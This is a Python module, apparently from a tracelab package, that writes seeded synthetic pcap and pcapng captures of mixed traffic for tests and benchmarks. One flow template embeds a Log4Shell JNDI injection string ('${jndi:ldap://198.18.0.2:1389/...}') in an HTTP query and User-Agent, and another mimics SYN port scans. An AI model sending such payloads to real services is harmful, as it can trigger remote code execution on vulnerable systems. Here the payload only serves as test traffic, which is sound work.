"""Synthetic packet captures (pcap or pcapng), seeded and fast, for tests and benchmarks.

Traffic is a stream of *flows*: a web page fetch, a TLS 1.3 session, a SYN probe to a closed or
filtered port, a Log4Shell request, a DNS lookup, a ping, an ARP exchange, an IPv6 router
solicitation. Each flow kind is a template of packets built once with dpkt (link layer
included, for each link type); a chunk of flows copies the templates into a numpy array
(flows x template bytes) and patches each flow's addresses, ports, initial sequence numbers
and identifiers into it, then recomputes the IPv4 header and TCP/UDP/ICMPv6 checksums,
vectorised across flows. Packets of a chunk are ordered by time and written as one block of
records, so memory stays flat however many packets are asked for.

The same seed and options give the same bytes. Addresses come only from 198.18.0.0/15
(RFC 2544 benchmarking range), fe80::/10 and ff02::/16.
"""

from __future__ import annotations

import argparse
import gzip
import json
import struct
import sys
from dataclasses import dataclass
from pathlib import Path

import dpkt
import numpy as np

from tracelab.core.atomic import atomic_path

NS = 1_000_000_000
DEFAULT_START_NS = 1_795_852_800 * NS          # 2026-11-28T08:00:00Z
CHUNK_FLOWS = 4096
GATEWAY_MAC = bytes.fromhex("020000000001")
CLIENT_MAC_PREFIX = bytes.fromhex("0200")      # + the client's IPv4 address
BROADCAST = b"\xff" * 6
ALL_ROUTERS_MAC = bytes.fromhex("333300000002")

CLIENT_IP, SERVER_IP = 0xC612000A, 0xC6121001   # 198.18.0.10, 198.18.16.1 in templates
CLIENT_PORT = 40000
CLIENT_ISN, SERVER_ISN = 1_000_000, 7_000_000
LINK_LOCAL = bytes.fromhex("fe800000000000000000000000000000")
ALL_ROUTERS = bytes.fromhex("ff020000000000000000000000000002")

ETHERNET, SLL, SLL2, RAW, NULL, LOOP = 1, 113, 276, 101, 0, 108
LINKTYPES = (ETHERNET, SLL, SLL2, RAW, NULL, LOOP)
SCAN_PORTS = np.array([22, 23, 80, 443, 445, 3389, 8080, 8443, 9200])

# Relative frequency of each flow kind.
MIX = {"web": 0.22, "tls": 0.18, "scan": 0.32, "log4shell": 0.05, "dns": 0.12, "ping": 0.05,
       "arp": 0.03, "router_solicitation": 0.03}


@dataclass(frozen=True)
class Interface:
    """One capture interface: link type, timestamp resolution (pcapng if_tsresol byte)."""

    linktype: int = ETHERNET
    tsresol: int = 9          # 10^-9 s; with the top bit set, 2^-(tsresol & 0x7f) s


@dataclass
class Template:
    """A flow kind: its packets (link layer excluded) and what varies per flow."""

    kind: str
    packets: list          # dpkt IP, IP6 or ARP objects
    direction: list        # 0 client -> server, 1 server -> client
    delay_s: list          # gap before each packet
    server_port: int | None = None


# --- Templates ---------------------------------------------------------------------------

def _ip(src: int, dst: int, payload, proto: int) -> dpkt.ip.IP:
    return dpkt.ip.IP(src=src.to_bytes(4, "big"), dst=dst.to_bytes(4, "big"), p=proto, ttl=64,
                      id=1, data=payload)


def _udp(sport: int, dport: int, data: bytes) -> dpkt.udp.UDP:
    # dpkt leaves the length field to the caller.
    return dpkt.udp.UDP(sport=sport, dport=dport, ulen=8 + len(data), data=data)


def _tcp_flow(kind: str, port: int, exchanges: list[tuple[int, bytes, float]]) -> Template:
    """Handshake, the given (direction, payload, delay) segments with ACKs, then FIN/ACKs."""
    syn_options = (b"\x02\x04\x05\xb4" b"\x04\x02" b"\x08\x0a\x00\x00\x00\x01\x00\x00\x00\x00"
                   b"\x01" b"\x03\x03\x0a")
    synack_options = (b"\x02\x04\x05\xb4" b"\x04\x02" b"\x08\x0a\x00\x00\x00\x02\x00\x00\x00\x01"
                      b"\x01" b"\x03\x03\x07")
    seq = [CLIENT_ISN, SERVER_ISN]
    packets, direction, delay = [], [], []

    def segment(side: int, flags: int, data: bytes = b"", options: bytes = b"",
                gap: float = 0.0002):
        window = 64240 if flags & dpkt.tcp.TH_SYN else (502 if side == 0 else 509)
        ack = seq[1 - side] if flags & dpkt.tcp.TH_ACK else 0
        ports = (CLIENT_PORT, port) if side == 0 else (port, CLIENT_PORT)
        tcp = dpkt.tcp.TCP(sport=ports[0], dport=ports[1], seq=seq[side], ack=ack, flags=flags,
                           win=window, opts=options, data=data)
        tcp.off = (20 + len(options)) // 4
        hosts = (CLIENT_IP, SERVER_IP) if side == 0 else (SERVER_IP, CLIENT_IP)
        packets.append(_ip(*hosts, tcp, 6))
        direction.append(side)
        delay.append(gap)
        seq[side] = (seq[side] + len(data) + (1 if flags & (dpkt.tcp.TH_SYN | dpkt.tcp.TH_FIN)
                                               else 0)) % (1 << 32)

    A, S, P, F = dpkt.tcp.TH_ACK, dpkt.tcp.TH_SYN, dpkt.tcp.TH_PUSH, dpkt.tcp.TH_FIN
    segment(0, S, options=syn_options, gap=0.0)
    segment(1, S | A, options=synack_options)
    segment(0, A)
    for side, data, gap in exchanges:
        segment(side, P | A, data, gap=gap)
        segment(1 - side, A, gap=0.00005)
    segment(0, F | A, gap=0.001)
    segment(1, F | A)
    segment(0, A)
    return Template(kind, packets, direction, delay, server_port=port)


def _tls_record(content: int, body: bytes, version: int = 0x0303) -> bytes:
    return struct.pack(">BHH", content, version, len(body)) + body


def _handshake(kind: int, body: bytes) -> bytes:
    return struct.pack(">B", kind) + len(body).to_bytes(3, "big") + body


def _client_hello() -> bytes:
    extensions = (struct.pack(">HH", 0x002B, 5) + b"\x04\x03\x04\x03\x03"      # 1.3, 1.2
                  + struct.pack(">HH", 0x000A, 4) + b"\x00\x02\x00\x1d")       # x25519
    body = (b"\x03\x03" + bytes(range(32)) + b"\x20" + bytes(32) + b"\x00\x04\x13\x01\x13\x02"
            + b"\x01\x00" + struct.pack(">H", len(extensions)) + extensions)
    return _tls_record(22, _handshake(1, body), version=0x0301)


def _server_hello() -> bytes:
    extensions = struct.pack(">HHH", 0x002B, 2, 0x0304) + struct.pack(">HH", 0x0033, 36) + \
        b"\x00\x1d\x00\x20" + bytes(32)
    body = (b"\x03\x03" + bytes(range(32, 64)) + b"\x20" + bytes(32) + b"\x13\x01\x00"
            + struct.pack(">H", len(extensions)) + extensions)
    return (_tls_record(22, _handshake(2, body)) + _tls_record(20, b"\x01")
            + _tls_record(23, bytes(range(200)) * 4))


def templates() -> dict[str, Template]:
    """Every flow kind's template, built with dpkt."""
    web = _tcp_flow("web", 80, [
        (0, b"GET /page1.html HTTP/1.1\r\nHost: www.example.test\r\nAccept: */*\r\n\r\n", 0.0003),
        (1, b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 96\r\n\r\n"
            + b"<html>" + b"x" * 83 + b"</html>", 0.002)])
    tls = _tcp_flow("tls", 443, [
        (0, _client_hello(), 0.0003), (1, _server_hello(), 0.004),
        (0, _tls_record(20, b"\x01") + _tls_record(23, bytes(53)), 0.0005),
        (0, _tls_record(23, bytes(range(150))), 0.0002),
        (1, _tls_record(23, bytes(range(250)) * 2), 0.003)])
    log4shell = _tcp_flow("log4shell", 8080, [
        (0, b"GET /?x=${jndi:ldap://198.18.0.2:1389/a} HTTP/1.1\r\nHost: target\r\n"
            b"User-Agent: ${jndi:ldap://198.18.0.2:1389/ua}\r\n\r\n", 0.0003),
        (1, b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n", 0.001)])
    syn = dpkt.tcp.TCP(sport=CLIENT_PORT, dport=0, seq=CLIENT_ISN, flags=dpkt.tcp.TH_SYN,
                       win=1024, opts=b"\x02\x04\x05\xb4")
    syn.off = 6
    rst = dpkt.tcp.TCP(sport=0, dport=CLIENT_PORT, seq=0, ack=CLIENT_ISN + 1,
                       flags=dpkt.tcp.TH_RST | dpkt.tcp.TH_ACK, win=0)
    scan = Template("scan", [_ip(CLIENT_IP, SERVER_IP, syn, 6), _ip(SERVER_IP, CLIENT_IP, rst, 6)],
                    [0, 1], [0.0, 0.0001])
    filtered = Template("scan", [_ip(CLIENT_IP, SERVER_IP, syn, 6),
                                 _ip(CLIENT_IP, SERVER_IP, syn, 6)], [0, 0], [0.0, 1.0])
    question = dpkt.dns.DNS(id=1, qd=[dpkt.dns.DNS.Q(name="www.example.test")])
    answer = dpkt.dns.DNS(id=1, qr=dpkt.dns.DNS_R, qd=question.qd, an=[dpkt.dns.DNS.RR(
        name="www.example.test", type=dpkt.dns.DNS_A, ttl=60, rdata=b"\xc6\x12\x10\x01")])
    dns = Template("dns", [
        _ip(CLIENT_IP, SERVER_IP, _udp(CLIENT_PORT, 53, bytes(question)), 17),
        _ip(SERVER_IP, CLIENT_IP, _udp(53, CLIENT_PORT, bytes(answer)), 17)],
        [0, 1], [0.0, 0.0004], server_port=53)
    echo = dpkt.icmp.ICMP.Echo(id=1, seq=1, data=bytes(range(48)))
    ping = Template("ping", [
        _ip(CLIENT_IP, SERVER_IP, dpkt.icmp.ICMP(type=8, data=echo), 1),
        _ip(SERVER_IP, CLIENT_IP, dpkt.icmp.ICMP(type=0, data=echo), 1)], [0, 1], [0.0, 0.0003])
    client_mac = CLIENT_MAC_PREFIX + CLIENT_IP.to_bytes(4, "big")
    arp = Template("arp", [
        dpkt.arp.ARP(op=dpkt.arp.ARP_OP_REQUEST, sha=client_mac, spa=CLIENT_IP.to_bytes(4, "big"),
                     tha=bytes(6), tpa=SERVER_IP.to_bytes(4, "big")),
        dpkt.arp.ARP(op=dpkt.arp.ARP_OP_REPLY, sha=GATEWAY_MAC, spa=SERVER_IP.to_bytes(4, "big"),
                     tha=client_mac, tpa=CLIENT_IP.to_bytes(4, "big"))], [0, 1], [0.0, 0.0001])
    solicitation = dpkt.icmp6.ICMP6(type=133, data=bytes(4) + b"\x01\x01" + client_mac)
    router = Template("router_solicitation", [dpkt.ip6.IP6(
        src=LINK_LOCAL, dst=ALL_ROUTERS, nxt=58, hlim=255, plen=len(bytes(solicitation)),
        data=solicitation)], [0], [0.0])
    return {"web": web, "tls": tls, "log4shell": log4shell, "scan": scan,
            "scan_filtered": filtered, "dns": dns, "ping": ping, "arp": arp,
            "router_solicitation": router}


# --- Link layers ----------------------------------------------------------------------------

def _ethertype(packet) -> int:
    if isinstance(packet, dpkt.ip6.IP6):
        return dpkt.ethernet.ETH_TYPE_IP6
    if isinstance(packet, dpkt.arp.ARP):
        return dpkt.ethernet.ETH_TYPE_ARP
    return dpkt.ethernet.ETH_TYPE_IP


def _link_header(linktype: int, packet, side: int) -> tuple[bytes, list[int]]:
    """The link header of one template packet, and where the client's MAC sits in it."""
    client_mac = CLIENT_MAC_PREFIX + CLIENT_IP.to_bytes(4, "big")
    sender = client_mac if side == 0 else GATEWAY_MAC
    ethertype = _ethertype(packet)
    if linktype == ETHERNET:
        if isinstance(packet, dpkt.arp.ARP) and packet.op == dpkt.arp.ARP_OP_REQUEST:
            receiver = BROADCAST
        elif isinstance(packet, dpkt.ip6.IP6):
            receiver = ALL_ROUTERS_MAC
        else:
            receiver = GATEWAY_MAC if side == 0 else client_mac
        header = dpkt.ethernet.Ethernet(dst=receiver, src=sender, type=ethertype).pack_hdr()
        return header, ([6] if side == 0 else [0] if receiver == client_mac else [])
    if linktype == SLL:
        header = dpkt.sll.SLL(type=4 if side == 0 else 0, hlen=6, hdr=sender + b"\0\0",
                              ethtype=ethertype).pack_hdr()
        return header, ([6] if side == 0 else [])
    if linktype == SLL2:
        header = dpkt.sll2.SLL2(ethtype=ethertype, intindex=2, type=4 if side == 0 else 0,
                                hlen=6, hdr=sender + b"\0\0").pack_hdr()
        return header, ([12] if side == 0 else [])
    if linktype in (NULL, LOOP):
        family = 24 if ethertype == dpkt.ethernet.ETH_TYPE_IP6 else 2
        return struct.pack("<I" if linktype == NULL else ">I", family), []
    return b"", []


# --- Writing ---------------------------------------------------------------------------------

class _Compiled:
    """A template for one link type as bytes, with the offsets of everything to patch."""

    def __init__(self, template: Template, linktype: int):
        self.kind = template.kind
        self.direction = np.array(template.direction)
        self.delay_ns = np.rint(np.cumsum(template.delay_s) * NS).astype(np.int64)
        parts, self.offsets, self.lengths = [], [], []
        self.link_len, self.mac_at = [], []
        position = 0
        for packet, side in zip(template.packets, template.direction):
            header, mac_at = _link_header(linktype, packet, side)
            data = header + bytes(packet)
            self.offsets.append(position)
            self.lengths.append(len(data))
            self.link_len.append(len(header))
            self.mac_at.append(mac_at)
            parts.append(data)
            position += len(data)
        self.bytes = np.frombuffer(b"".join(parts), dtype=np.uint8)
        self.packets = template.packets
        self.server_port = template.server_port
        self.offsets = np.array(self.offsets)
        self.lengths = np.array(self.lengths)


def _put(block: np.ndarray, at: int, width: int, values: np.ndarray) -> None:
    values = values.astype(np.uint64)
    for k in range(width):
        block[:, at + k] = ((values >> np.uint64(8 * (width - 1 - k))) & np.uint64(0xFF)
                            ).astype(np.uint8)


def _get(block: np.ndarray, at: int, width: int) -> np.ndarray:
    value = np.zeros(len(block), dtype=np.int64)
    for k in range(width):
        value = (value << 8) | block[:, at + k]
    return value


def _checksum(block: np.ndarray, start: int, end: int, initial: np.ndarray) -> np.ndarray:
    """Internet checksum of block[:, start:end] (zero-padded), plus `initial`, per row."""
    words = block[:, start:end].astype(np.int64)
    if words.shape[1] % 2:
        words = np.hstack([words, np.zeros((len(block), 1), dtype=np.int64)])
    total = (words[:, 0::2] << 8 | words[:, 1::2]).sum(axis=1) + initial
    while (total >> 16).any():
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _patch(compiled: _Compiled, flows: dict) -> np.ndarray:
    """Copies of the template for each flow, with the flow's identity patched in."""
    count = len(flows["client_ip"])
    block = np.tile(compiled.bytes, (count, 1))
    client_mac = (0x0200 << 32) | flows["client_ip"]
    for i, packet in enumerate(compiled.packets):
        at = int(compiled.offsets[i]) + compiled.link_len[i]
        side = int(compiled.direction[i])
        for mac_at in compiled.mac_at[i]:
            _put(block, int(compiled.offsets[i]) + mac_at, 6, client_mac)
        if isinstance(packet, dpkt.arp.ARP):
            _put(block, at + (8 if side == 0 else 18), 6, client_mac)
            _put(block, at + (14 if side == 0 else 24), 4, flows["client_ip"])
            _put(block, at + (24 if side == 0 else 14), 4, flows["server_ip"])
            continue
        if isinstance(packet, dpkt.ip6.IP6):
            interface_id = (0x0000_00FF_FE00_0000 | (flows["client_ip"] & 0xFFFFFF)
                            | 0x0200_0000_0000_0000)
            _put(block, at + 16, 8, interface_id)
            _put(block, at + 40 + 10, 6, client_mac)
            block[:, at + 42:at + 44] = 0
            pseudo = _checksum(block, at + 8, at + 40, np.full(count, 58 + len(packet.data)))
            _put(block, at + 42, 2, _checksum(block, at + 40, at + 40 + len(packet.data),
                                              (~pseudo & 0xFFFF)))
            continue
        ends = (flows["client_ip"], flows["server_ip"])
        _put(block, at + 12, 4, ends[side])
        _put(block, at + 16, 4, ends[1 - side])
        _put(block, at + 4, 2, (flows["ip_id"] + i) & 0xFFFF)
        l4 = at + 20
        if packet.p in (6, 17):
            server_port = flows["server_port"]
            _put(block, l4 + (0 if side == 0 else 2), 2, flows["client_port"])
            _put(block, l4 + (2 if side == 0 else 0), 2, server_port)
        if packet.p == 6:
            own = flows["client_isn"] if side == 0 else flows["server_isn"]
            peer = flows["server_isn"] if side == 0 else flows["client_isn"]
            template_own = CLIENT_ISN if side == 0 else SERVER_ISN
            template_peer = SERVER_ISN if side == 0 else CLIENT_ISN
            _put(block, l4 + 4, 4, (_get(block, l4 + 4, 4) - template_own + own) % (1 << 32))
            if packet.data.flags & dpkt.tcp.TH_ACK:
                _put(block, l4 + 8, 4,
                     (_get(block, l4 + 8, 4) - template_peer + peer) % (1 << 32))
        elif packet.p == 17:
            _put(block, l4 + 8, 2, flows["dns_id"])
        elif packet.p == 1:
            _put(block, l4 + 4, 2, flows["dns_id"])
        length = len(packet) - 20
        # Checksums: IPv4 header, then the transport's over its pseudo-header.
        block[:, at + 10:at + 12] = 0
        _put(block, at + 10, 2, _checksum(block, at, at + 20, np.zeros(count, dtype=np.int64)))
        checksum_at = {6: 16, 17: 6, 1: 2}[packet.p]
        block[:, l4 + checksum_at:l4 + checksum_at + 2] = 0
        initial = np.zeros(count, dtype=np.int64)
        if packet.p != 1:
            addresses = _checksum(block, at + 12, at + 20, np.full(count, packet.p + length))
            initial = ~addresses & 0xFFFF
        _put(block, l4 + checksum_at, 2, _checksum(block, l4, l4 + length, initial))
    return block


class CaptureWriter:
    """Streams records to a pcap or pcapng file (dpkt writes the file and interface headers)."""

    def __init__(self, handle, fmt: str, interfaces: list[Interface], snaplen: int = 0):
        """`snaplen` > 0 cuts packets to that length; 0 keeps them whole."""
        self.handle = handle
        self.fmt = fmt
        self.interfaces = interfaces
        self.snaplen = snaplen
        header_snaplen = snaplen or 262144
        if fmt == "pcap":
            if len(interfaces) != 1 or interfaces[0].tsresol not in (6, 9):
                raise ValueError("pcap holds one interface with µs (6) or ns (9) timestamps")
            magic = dpkt.pcap.TCPDUMP_MAGIC_NANO if interfaces[0].tsresol == 9 \
                else dpkt.pcap.TCPDUMP_MAGIC
            handle.write(bytes(dpkt.pcap.LEFileHdr(magic=magic, snaplen=header_snaplen,
                                                   linktype=interfaces[0].linktype)))
        else:
            handle.write(bytes(dpkt.pcapng.SectionHeaderBlockLE()))
            for interface in interfaces:
                options = [dpkt.pcapng.PcapngOptionLE(code=dpkt.pcapng.PCAPNG_OPT_IF_TSRESOL,
                                                      data=bytes([interface.tsresol])),
                           dpkt.pcapng.PcapngOptionLE(code=dpkt.pcapng.PCAPNG_OPT_ENDOFOPT)]
                handle.write(bytes(dpkt.pcapng.InterfaceDescriptionBlockLE(
                    linktype=interface.linktype, snaplen=header_snaplen, opts=options)))

    def write(self, data: np.ndarray, offsets: np.ndarray, lengths: np.ndarray,
              ts_ns: np.ndarray, interface: np.ndarray) -> None:
        """Write packets data[offsets[i]:offsets[i]+lengths[i]] as records, in order."""
        captured = np.minimum(lengths, self.snaplen) if self.snaplen else lengths
        units = np.zeros(len(ts_ns), dtype=np.uint64)
        for number, spec in enumerate(self.interfaces):
            rows = interface == number
            units[rows] = _ns_to_units(ts_ns[rows], spec.tsresol)
        if self.fmt == "pcap":
            header_len = 16
            padded = captured
            scale = 1 if self.interfaces[0].tsresol == 9 else 1000
            seconds, fraction = np.divmod(ts_ns, NS)
            header = np.stack([seconds, fraction // scale, captured, lengths], axis=1)
        else:
            header_len = 28
            padded = (captured + 3) & ~3
            block = header_len + padded + 4
            header = np.stack([np.full(len(captured), 6), block, interface,
                               (units >> np.uint64(32)).astype(np.int64),
                               (units & np.uint64(0xFFFFFFFF)).astype(np.int64),
                               captured, lengths], axis=1)
        record = header_len + padded + (4 if self.fmt == "pcapng" else 0)
        starts = np.zeros(len(record) + 1, dtype=np.int64)
        np.cumsum(record, out=starts[1:])
        out = np.zeros(int(starts[-1]), dtype=np.uint8)
        header_bytes = header.astype("<u4").view(np.uint8).reshape(len(record), -1)
        out[(starts[:-1, None] + np.arange(header_len)).ravel()] = header_bytes.ravel()
        positions = np.repeat(starts[:-1] + header_len - np.r_[0, np.cumsum(captured)[:-1]],
                              captured) + np.arange(int(captured.sum()))
        sources = np.repeat(offsets - np.r_[0, np.cumsum(captured)[:-1]], captured) + \
            np.arange(int(captured.sum()))
        out[positions] = data[sources]
        if self.fmt == "pcapng":
            trailer = (starts[1:, None] - 4 + np.arange(4)).ravel()
            out[trailer] = block.astype("<u4").view(np.uint8)
        self.handle.write(out.tobytes())


def _ns_to_units(ts_ns: np.ndarray, tsresol: int) -> np.ndarray:
    if tsresol & 0x80:
        shift = tsresol & 0x7F
        seconds, fraction = np.divmod(ts_ns, NS)
        return (seconds.astype(np.uint64) << np.uint64(shift)) + \
            np.floor(fraction * (2.0 ** shift) / NS).astype(np.uint64)
    if tsresol <= 9:
        return (ts_ns // 10 ** (9 - tsresol)).astype(np.uint64)
    return ts_ns.astype(np.uint64) * np.uint64(10 ** (tsresol - 9))


def write_capture(path, packets: int, *, seed: int = 0, fmt: str = "pcap",
                  interfaces: list[Interface] | None = None, snaplen: int = 0,
                  compress: bool | None = None, start_ns: int = DEFAULT_START_NS,
                  flows_per_second: float = 2000.0) -> dict:
    """Write `packets` packets of mixed traffic to `path`; return what was written.

    `snaplen` > 0 cuts packets to that many bytes (original lengths kept); `compress`
    gzips the file (default: when the name ends in .gz). pcapng files may have several
    interfaces, each with its own link type and timestamp resolution; flows are spread
    over them.
    """
    path = Path(path)
    interfaces = interfaces or [Interface()]
    if compress is None:
        compress = path.name.endswith(".gz")
    rng = np.random.default_rng(seed)
    kinds = list(MIX)
    weights = np.array([MIX[k] for k in kinds])
    compiled = {(name, iface): _Compiled(t, spec.linktype)
                for name, t in templates().items() for iface, spec in enumerate(interfaces)
                if not (name == "arp" and spec.linktype not in (ETHERNET, SLL, SLL2))}
    written = 0
    counts: dict[str, int] = {}
    clock = start_ns
    with atomic_path(path) as tmp:
        opener = gzip.open if compress else open
        with opener(tmp, "wb") as handle:
            writer = CaptureWriter(handle, fmt, interfaces, snaplen)
            while written < packets:
                chunk = _chunk(rng, kinds, weights, compiled, len(interfaces), clock,
                               flows_per_second)
                clock = chunk["end_ns"]
                take = min(packets - written, len(chunk["ts"]))
                sl = slice(0, take)
                writer.write(chunk["data"], chunk["offsets"][sl], chunk["lengths"][sl],
                             chunk["ts"][sl], chunk["interface"][sl])
                for kind, number in zip(*np.unique(chunk["kind"][sl], return_counts=True)):
                    counts[str(kind)] = counts.get(str(kind), 0) + int(number)
                written += take
    return {"path": str(path), "packets": written, "format": fmt, "seed": seed,
            "snaplen": snaplen, "gzip": compress, "packets_by_flow_kind": counts,
            "interfaces": [{"linktype": i.linktype, "tsresol": i.tsresol} for i in interfaces]}


def _chunk(rng, kinds, weights, compiled, interface_count, clock, flows_per_second) -> dict:
    """CHUNK_FLOWS flows starting in one time window, their packets ordered by time."""
    # Long enough that every flow of the window ends before the next window's first packet.
    longest = max(int(t.delay_ns[-1]) for t in compiled.values()) + NS // 10
    span = max(int(CHUNK_FLOWS / flows_per_second * NS), 2 * longest)
    kind_of = rng.choice(len(kinds), size=CHUNK_FLOWS, p=weights / weights.sum())
    interface_of = rng.integers(0, interface_count, size=CHUNK_FLOWS)
    # Flows start in the first half of the window and end before it closes.
    start = clock + np.sort(rng.integers(0, span // 2, size=CHUNK_FLOWS))
    data_parts, pieces = [], []
    base = 0
    for number, kind in enumerate(kinds):
        for iface in range(interface_count):
            chosen = np.flatnonzero((kind_of == number) & (interface_of == iface))
            name = kind
            if kind == "scan":
                # Half the probes find a closed port (RST), half a filtered one (SYN again).
                closed = rng.random(len(chosen)) < 0.5
                groups = [(chosen[closed], "scan"), (chosen[~closed], "scan_filtered")]
            else:
                groups = [(chosen, name)]
            for rows, template_name in groups:
                key = (template_name, iface)
                if not len(rows) or key not in compiled:
                    continue
                template = compiled[key]
                flows = _flow_identities(rng, len(rows), kind, template)
                block = _patch(template, flows)
                data_parts.append(block.ravel())
                count = len(rows)
                jitter = rng.integers(0, 50_000, size=(count, len(template.delay_ns)))
                ts = start[rows][:, None] + template.delay_ns[None, :] + np.cumsum(jitter, axis=1)
                offsets = base + np.arange(count)[:, None] * len(template.bytes) + \
                    template.offsets[None, :]
                pieces.append((ts.ravel(), offsets.ravel(),
                               np.tile(template.lengths, count),
                               np.full(ts.size, iface), np.full(ts.size, kind)))
                base += block.size
    ts, offsets, lengths, interface, kind = (np.concatenate(p) for p in zip(*pieces))
    order = np.argsort(ts, kind="stable")
    return {"data": np.concatenate(data_parts), "ts": ts[order], "offsets": offsets[order],
            "lengths": lengths[order], "interface": interface[order], "kind": kind[order],
            "end_ns": clock + span}


def _flow_identities(rng, count: int, kind: str, template: _Compiled) -> dict:
    clients = rng.integers(10, 250, size=count)
    if kind in ("scan", "log4shell"):
        servers = (1 << 8) + rng.integers(0, (1 << 17) - 256, size=count)   # scan targets
        clients = np.full(count, 2)                                          # the scanner
    else:
        servers = (16 << 8) + rng.integers(0, 16 << 8, size=count)
    server_port = SCAN_PORTS[rng.integers(0, len(SCAN_PORTS), size=count)] \
        if kind == "scan" else np.full(count, template.server_port or 0)
    return {"client_ip": 0xC6120000 + clients, "server_ip": 0xC6120000 + servers,
            "client_port": rng.integers(32768, 61000, size=count),
            "server_port": server_port,
            "client_isn": rng.integers(0, 1 << 32, size=count, dtype=np.int64),
            "server_isn": rng.integers(0, 1 << 32, size=count, dtype=np.int64),
            "ip_id": rng.integers(0, 1 << 16, size=count),
            "dns_id": rng.integers(0, 1 << 16, size=count)}


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("path", type=Path)
    parser.add_argument("--packets", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--format", choices=("pcap", "pcapng"), default="pcap")
    parser.add_argument("--linktype", type=int, action="append", choices=LINKTYPES,
                        help="link type of an interface (repeat for several, pcapng only)")
    parser.add_argument("--tsresol", type=int, default=9,
                        help="timestamp resolution byte (6 = µs, 9 = ns, 0x8a = 2^-10 s)")
    parser.add_argument("--snaplen", type=int, default=0)
    args = parser.parse_args(argv)
    interfaces = [Interface(lt, args.tsresol) for lt in (args.linktype or [ETHERNET])]
    summary = write_capture(args.path, args.packets, seed=args.seed, fmt=args.format,
                            interfaces=interfaces, snaplen=args.snaplen)
    json.dump(summary, sys.stdout, indent=2)
    print()
    return 0


if __name__ == "__main__":
    sys.exit(main())
